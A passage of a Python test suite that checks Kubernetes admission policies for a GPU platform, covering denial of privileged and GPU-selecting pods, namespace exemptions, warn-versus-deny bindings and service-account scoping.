    request = {**_pod_request(new), "operation": "UPDATE", "oldObject": old}
    failed = evaluate(policies[PRIVILEGE], request)
    assert any("container miner does" in m for m in failed), failed


def test_a_privileged_ephemeral_container_on_a_gpu_nodes_pod_is_denied(policies):
    # `kubectl debug --profile=sysadmin` adds a privileged ephemeral container through the subresource.
    old = _elevated({}, tolerations=TOLERATES_GPU, nodeName=NODE)
    new = copy.deepcopy(old)
    new["spec"]["ephemeralContainers"] = [
        {"name": "debugger-x7", "image": "busybox:1.36", "securityContext": {"privileged": True}}
    ]
    request = {**_pod_request(new), "operation": "UPDATE", "subResource": "ephemeralcontainers", "oldObject": old}
    failed = evaluate(policies[PRIVILEGE], request)
    assert any("container debugger-x7 does" in m for m in failed), failed


def test_kube_systems_privileged_add_ons_that_tolerate_every_taint_are_admitted(policies):
    # kube-proxy as EKS runs it: a privileged container, tolerating every taint (kube-system is exempt
    # from this rule only: gpu_platform/interface/admission.py PRIVILEGED_NAMESPACES).
    pod = _elevated(
        {"privileged": True},
        namespace="kube-system",
        tolerations=TOLERATES_ALL,
        hostNetwork=True,
        priorityClassName="system-node-critical",
    )
    assert evaluate(policies[PRIVILEGE], _pod_request(pod)) is None
    assert evaluate(policies["gpu-platform-gpu-access"], _pod_request(pod)) == []


def test_kube_systems_privileged_pods_still_may_not_select_devices_by_env(policies):
    pod = _elevated({"privileged": True}, namespace="kube-system", tolerations=TOLERATES_ALL)
    pod["spec"]["containers"][1]["env"] = [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]
    failed = evaluate(policies["gpu-platform-gpu-access"], _pod_request(pod))
    assert any("NVIDIA_VISIBLE_DEVICES" in m for m in failed), failed


def _policy_of(rec, name: str = admission.GPU_ACCESS) -> dict:
    (spec,) = [p.inputs["spec"] for p in rec.of_type(POLICY) if p.inputs["metadata"]["name"] == name]
    return spec


def _refusals(rec, pod: dict) -> list[str]:
    """Every GPU policy's refusals of the pod, as the API server runs every policy that matches."""
    return [
        m
        for name in (admission.GPU_ACCESS, admission.GPU_PRIVILEGE)
        for m in evaluate(_policy_of(rec, name), _pod_request(pod)) or []
    ]


def test_a_namespace_the_stack_lists_may_run_privileged_gpu_agents(variant):
    # A user's own GPU agent: privileged, tolerating every taint, selecting every GPU by env.
    rec = variant(lambda c: c["gpu-platform:workloads"].update(privilegedNamespaces=["gpu-monitoring"]))
    for namespace, admitted in (("gpu-monitoring", True), ("ml", False)):
        pod = _elevated({"privileged": True}, namespace=namespace, tolerations=TOLERATES_ALL)
        pod["spec"]["containers"][0]["env"] = [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]
        assert (_refusals(rec, pod) == []) is admitted, namespace


def _bindings(rec) -> dict[str, list[str]]:
    return {b.inputs["spec"]["policyName"]: b.inputs["spec"]["validationActions"] for b in rec.of_type(BINDING)}


def test_an_adopted_cluster_only_warns_of_privileged_pods_until_told_to_deny(variant):
    # Its own agents (a CNI like calico-node, a security agent) may run privileged on every node: a Deny
    # from the first up would refuse their pods on the next new node.
    adopted = variant(lambda c: c["gpu-platform:cluster"].update(create=False))
    actions = _bindings(adopted)
    assert actions.pop("gpu-platform-gpu-privilege") == ["Warn", "Audit"]
    assert set(map(tuple, actions.values())) == {("Deny",)}
    assert any("privilegeAdmission is warn (the default on an adopted cluster" in w for w in adopted.warnings), (
        adopted.warnings
    )
    told = variant(
        lambda c: (
            c["gpu-platform:cluster"].update(create=False),
            c["gpu-platform:workloads"].update(privilegeAdmission="deny"),
        )
    )
    assert _bindings(told)["gpu-platform-gpu-privilege"] == ["Deny"]
    assert not any("privilegeAdmission" in w for w in told.warnings)


def test_the_order_of_listed_namespaces_does_not_move_the_policies(variant):
    # The ledger hashes each policy's spec: reordering the list must not ask for a new approval.
    a = variant(lambda c: c["gpu-platform:workloads"].update(privilegedNamespaces=["b-agents", "a-agents"]))
    b = variant(lambda c: c["gpu-platform:workloads"].update(privilegedNamespaces=["a-agents", "b-agents"]))
    for name in (admission.GPU_ACCESS, admission.GPU_PRIVILEGE):
        assert _policy_of(a, name) == _policy_of(b, name), name


def test_an_adopted_cluster_told_to_warn_is_not_told_it_is_the_default(variant):
    rec = variant(
        lambda c: (
            c["gpu-platform:cluster"].update(create=False),
            c["gpu-platform:workloads"].update(privilegeAdmission="warn"),
        )
    )
    assert any("privilegeAdmission is warn (as the stack sets)" in w for w in rec.warnings), rec.warnings


def test_a_created_cluster_may_choose_to_warn(variant):
    rec = variant(lambda c: c["gpu-platform:workloads"].update(privilegeAdmission="warn"))
    assert _bindings(rec)["gpu-platform-gpu-privilege"] == ["Warn", "Audit"]
    assert any("privilegeAdmission is warn (as the stack sets)" in w for w in rec.warnings), rec.warnings


WORKLOAD_TYPES = ("kubernetes:apps/v1:DaemonSet", "kubernetes:apps/v1:Deployment", "kubernetes:batch/v1:Job")


@pytest.mark.parametrize("stack", ["dev", "prod", "dra"])
def test_every_rendered_operand_pod_passes_its_stacks_gpu_access_policy(request, stack):
    # Privileged by upstream design (the toolkit, the MIG manager, the validator), in the operator
    # namespace, which the policy leaves alone; a workload the stack renders elsewhere must pass it.
    rec = request.getfixturevalue(stack)
    workloads = [w for t in WORKLOAD_TYPES for w in rec.of_type(t)]
    # Among them some the rule would refuse anywhere else: privileged, or adding SYS_ADMIN.
    contexts = [
        c.get("securityContext", {})
        for w in workloads
        for part in ("containers", "initContainers")
        for c in w.inputs["spec"]["template"]["spec"].get(part, [])
    ]
    assert any(sc.get("privileged") or "SYS_ADMIN" in sc.get("capabilities", {}).get("add", []) for sc in contexts)
    for workload in workloads:
        namespace = workload.inputs["metadata"]["namespace"]
        template = workload.inputs["spec"]["template"]
        pod = {
            "metadata": {**template.get("metadata", {}), "name": "x", "namespace": namespace},
            "spec": template["spec"],
        }
        assert _refusals(rec, pod) == [], workload.name


def _granted(rec, resource: str, verbs: set[str]) -> set[str]:
    """The service accounts (namespace:name) bound to a role that grants any of the verbs on the resource."""
    roles = {
        (r.type.rsplit(":", 1)[-1], r.inputs["metadata"].get("namespace"), r.inputs["metadata"]["name"]): r.inputs
        for r in rec.resources
        if r.type.endswith(("rbac.authorization.k8s.io/v1:ClusterRole", "rbac.authorization.k8s.io/v1:Role"))
    }
    found = set()
    for binding in rec.resources:
        if not binding.type.endswith(("v1:ClusterRoleBinding", "v1:RoleBinding")):
            continue
        ref = binding.inputs["roleRef"]
        role = roles.get(
            (
                ref["kind"],
                None if ref["kind"] == "ClusterRole" else binding.inputs["metadata"].get("namespace"),
                ref["name"],
            )
        )
        if role and any(
            resource in rule.get("resources", []) and verbs & set(rule.get("verbs", []))
            for rule in role.get("rules", [])
        ):
            found |= {
                f"{s['namespace']}:{s['name']}" for s in binding.inputs["subjects"] if s["kind"] == "ServiceAccount"
            }
    return found


def _named(policies: dict, name: str) -> set[str]:
    return {
        c["expression"].split("system:serviceaccount:")[1].rstrip("'")
        for c in policies[name].get("matchConditions", [])
        if "system:serviceaccount:" in c["expression"]
    }


def test_every_operand_account_that_creates_pods_or_writes_nodes_is_the_one_a_policy_narrows(prod, policies):
    # If a service account were renamed, a policy keyed on the old name would silently match nobody.
    assert (
        _granted(prod, "pods", {"create"})
        == _named(policies, "gpu-platform-validator-pods")
        == {f"{NS}:nvidia-operator-validator"}
    )
    writers = _named(policies, "gpu-platform-mig-manager-nodes") | _named(policies, "gpu-platform-nfd-master-nodes")
    assert _granted(prod, "nodes", {"patch", "update"}) | _granted(prod, "nodes/status", {"patch", "update"}) == writers
    assert writers == {f"{NS}:nvidia-mig-manager", f"{NS}:nvidia-node-feature-discovery-master"}


def test_nfd_master_runs_without_taints(prod):
    # The NFD policy forbids spec changes: -enable-taints (api/nfd/v1alpha1 TaintNs) would need them.
    master = next(
        d for d in prod.of_type("kubernetes:apps/v1:Deployment") if d.inputs["metadata"]["name"].endswith("-master")
    )
    args = [a for c in master.inputs["spec"]["template"]["spec"]["containers"] for a in c.get("args", [])]
    assert not any(a.startswith("-enable-taints") for a in args), args


def test_a_cluster_before_1_30_gets_no_policies_and_a_warning_naming_the_key(variant):
    # 1.29 does not serve admissionregistration.k8s.io/v1 ValidatingAdmissionPolicy
    rec = variant(lambda c: c["gpu-platform:cluster"].update(kubernetesVersion="1.29"))
    assert rec.of_type(POLICY) == [] and rec.of_type(BINDING) == []
    assert any("gpu-platform:cluster.kubernetesVersion '1.29'" in w and "1.30" in w for w in rec.warnings), rec.warnings
